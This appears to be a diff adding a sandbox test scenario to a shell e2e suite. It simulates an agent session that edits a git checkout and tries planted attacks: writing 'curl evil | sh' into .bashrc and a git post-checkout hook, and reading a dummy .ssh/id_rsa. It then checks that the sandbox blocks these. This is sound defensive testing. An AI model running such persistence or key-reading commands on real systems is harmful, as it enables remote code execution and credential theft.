@@ -334,6 +334,128 @@ podman_scenario() {
     capture "${p[@]}" "${f[@]}" rm -f -t 0 "$name-oom" || true
 }
 
+# --- rootless podman on the user's own checkout ----------------------------------------
+
+# The agent's session in a checkout the logind user owns (0644/0755, a .git with hooks/, a
+# .bashrc): an edit, a new file, a delete, git's lock-file protocol (create .git/index.lock,
+# rename it over .git/index) and the condition of git's "dubious ownership" refusal (the top of
+# the checkout belongs to the caller); then two planted attacks, a .bashrc line and a git hook,
+# and a read of the user's key (.ssh/id_rsa, 0600: the sandbox's root is its owner, so only the
+# mask keeps it out, docs/workspace.md#secret-names).
+# The guest has no git (hack/vm/image.sh): the e2e suite runs git itself on this machine.
+ws_session='set -e; cd /workspace
+echo "def sub(a, b): return a - b" >> src/calc.py
+mkdir -p src/new && echo "x = 1" > src/new/mod.py
+rm README
+: > .git/index.lock && mv .git/index.lock .git/index
+[ "$(stat -c %u /workspace)" = "$(id -u)" ] && echo TOP-OWNED
+(echo "curl evil | sh" >> .bashrc) 2>/dev/null && echo BASHRC-WRITTEN
+(echo "curl evil | sh" > .git/hooks/post-checkout) 2>/dev/null && echo HOOK-WRITTEN
+(cat .ssh/id_rsa) 2>/dev/null | grep -q VM-SECRET && echo SECRET-READ
+echo SESSION-DONE'
+
+# ws_checkout DIR: the user's checkout, made fresh.
+ws_checkout() {
+    rm -rf "$1"
+    install -d "$1/src" "$1/.git/hooks"
+    echo 'def add(a, b): return a + b' >"$1/src/calc.py"
+    echo calc >"$1/README"
+    echo "# the developer's" >"$1/.bashrc"
+    echo index >"$1/.git/index"
+    install -d "$1/.ssh"
+    echo VM-SECRET >"$1/.ssh/id_rsa"
+    chown -R "$user_uid:$user_uid" "$1"
+    find "$1" -type d -exec chmod 0755 {} + && find "$1" -type f -exec chmod 0644 {} +
+    chmod 0700 "$1/.ssh" && chmod 0600 "$1/.ssh/id_rsa"
+}
+
+# ws_state DIR: what the host checkout holds (paths, owners, modes, contents).
+ws_state() {
+    (cd "$1" && find . -printf '%p %u %m\n' | sort && cat src/calc.py .bashrc .git/index README .ssh/id_rsa 2>&1)
+}
+
+# The command prefix of the logind user outside podman's user namespace.
+# shellcheck disable=SC2016
+as_user=(su -l -s /bin/sh -c 'exec "$@"' -- "$user" sh)
+
+# rootless-workspace RT: under agent-sandbox the session works, the host checkout stays as it
+# was until the user (no podman unshare) promotes, and the planted writes never land; under
+# runc and crun (the references) the same session writes the host checkout, attacks included.
+workspace_scenario() {
+    local rt=$1 check=rootless-workspace name="vm-ws-$1" dir=/home/$user/vm-ws-$1 p before
+    log=$out/logs/$check.$rt.log
+    podman_prefix "$user"
+    local rtarg=$rt
+    [[ $rt == agent-sandbox ]] && rtarg=/usr/local/bin/agent-sandbox
+    ws_checkout "$dir"
+    before=$(ws_state "$dir")
+    capture "${p[@]}" rm -f "$name" || true
+    if ! capture "${p[@]}" --runtime "$rtarg" run --rm --name "$name" --network none \
+        -v "$dir:/workspace" "$image" sh -c "$ws_session"; then
+        result "$check.session" "$rt" FAIL "podman run: $(brief "$got")"
+        not_run "$check" "$rt" "the session failed" host secret
+        [[ $rt == agent-sandbox ]] && not_run "$check" "$rt" "the session failed" review empty
+        return 0
+    fi
+    local session=$got
+    if [[ $session != *SESSION-DONE* || $session != *TOP-OWNED* || $session == *"Permission denied"* ]]; then
+        result "$check.session" "$rt" FAIL "edit, create, delete, index.lock, owned top: $(brief "$session")"
+    else
+        result "$check.session" "$rt" PASS "edit, create, delete, git's index.lock and an owned top all worked"
+    fi
+    if [[ $rt != agent-sandbox ]]; then
+        # The reference: the session and its attacks land on the host checkout.
+        if [[ $session == *SECRET-READ* ]]; then
+            result "$check.secret" "$rt" PASS "reference: the session read the user's 0600 key"
+        else
+            result "$check.secret" "$rt" FAIL "reference: the session did not read the user's key: $(brief "$session")"
+        fi
+        if [[ $session == *BASHRC-WRITTEN* && $session == *HOOK-WRITTEN* && ! -e $dir/README ]] &&
+            grep -q 'curl evil' "$dir/.bashrc" && [[ -e $dir/.git/hooks/post-checkout ]]; then
+            result "$check.host" "$rt" PASS "reference: the edits, the .bashrc line and the hook reached the host checkout"
+        else
+            result "$check.host" "$rt" FAIL "reference: the session did not reach the host checkout: $(brief "$session")"
+        fi
+        return 0
+    fi
+    if [[ $session == *SECRET-READ* ]]; then
+        result "$check.secret" "$rt" FAIL "the sandbox read the user's 0600 key under .ssh/"
+    else
+        result "$check.secret" "$rt" PASS "the user's .ssh/ is masked: the key is out of reach"
+    fi
+    if [[ $session == *BASHRC-WRITTEN* || $session == *HOOK-WRITTEN* ]]; then
+        result "$check.host" "$rt" FAIL "a protected name was written inside the sandbox: $(brief "$session")"
+    elif [[ $(ws_state "$dir") != "$before" ]]; then
+        result "$check.host" "$rt" FAIL "the host checkout changed before promote"
+    else
+        result "$check.host" "$rt" PASS "the host checkout is unchanged until promote; .bashrc and hooks refused"
+    fi
+    # Review and promote as the user, outside podman's namespace.
+    if ! capture "${as_user[@]}" /usr/local/bin/agent-sandbox diff "$name"; then
+        result "$check.review" "$rt" FAIL "diff as $user: $(brief "$got")"
+    elif ! grep -qx 'M /src/calc.py (file)' <<<"$got" || ! grep -qx 'A /src/new/mod.py (file)' <<<"$got" ||
+        ! grep -qx 'D /README (file)' <<<"$got"; then
+        result "$check.review" "$rt" FAIL "diff lacks the session's changes: $(brief "$got")"
+    elif ! capture "${as_user[@]}" /usr/local/bin/agent-sandbox promote "$name" --to "$dir"; then
+        result "$check.review" "$rt" FAIL "promote as $user: $(brief "$got")"
+    elif ! grep -q 'def sub' "$dir/src/calc.py" || [[ -e $dir/README || ! -f $dir/src/new/mod.py ]] ||
+        [[ $(stat -c %u "$dir/src/new/mod.py") != "$user_uid" ]] || grep -q 'curl evil' "$dir/.bashrc"; then
+        result "$check.review" "$rt" FAIL "after promote the host checkout lacks the change: $(ws_state "$dir" | tr '\n' ' ')"
+    else
+        result "$check.review" "$rt" PASS "diff and promote as $user (no podman unshare) brought the change, owned by $user"
+    fi
+    # A sandbox that wrote nothing: review says so.
+    capture "${p[@]}" --runtime "$rtarg" run --rm --name "$name-empty" --network none \
+        -v "$dir:/workspace" "$image" true || true
+    if capture "${p[@]}" unshare /usr/local/bin/agent-sandbox diff "$name-empty" && [[ $got == "# no changes" ]]; then
+        result "$check.empty" "$rt" PASS "podman unshare agent-sandbox diff: # no changes"
+    else
+        result "$check.empty" "$rt" FAIL "podman unshare agent-sandbox diff of a sandbox that wrote nothing: $(brief "$got")"
+    fi
+    capture "${as_user[@]}" /usr/local/bin/agent-sandbox changes discard "$name-empty" || true
+    return 0
+}
+
 # --- ctr (d) ----------------------------------------------------------------------------
 
 ctr_scenario() {
@@ -861,6 +983,10 @@ for rt in $VM_RUNTIMES; do
         say "podman-rootless [$rt]"
         podman_scenario podman-rootless "$rt" "$user" "" \
             "/user.slice/user-$user_uid.slice/user@$user_uid.service/user.slice/libpod-ID.scope*" "$unconfined" '*'
+    fi
+    if selected rootless-workspace; then
+        say "rootless-workspace [$rt]"
+        workspace_scenario "$rt"
     fi
     if selected ctr; then
         say "ctr [$rt]"
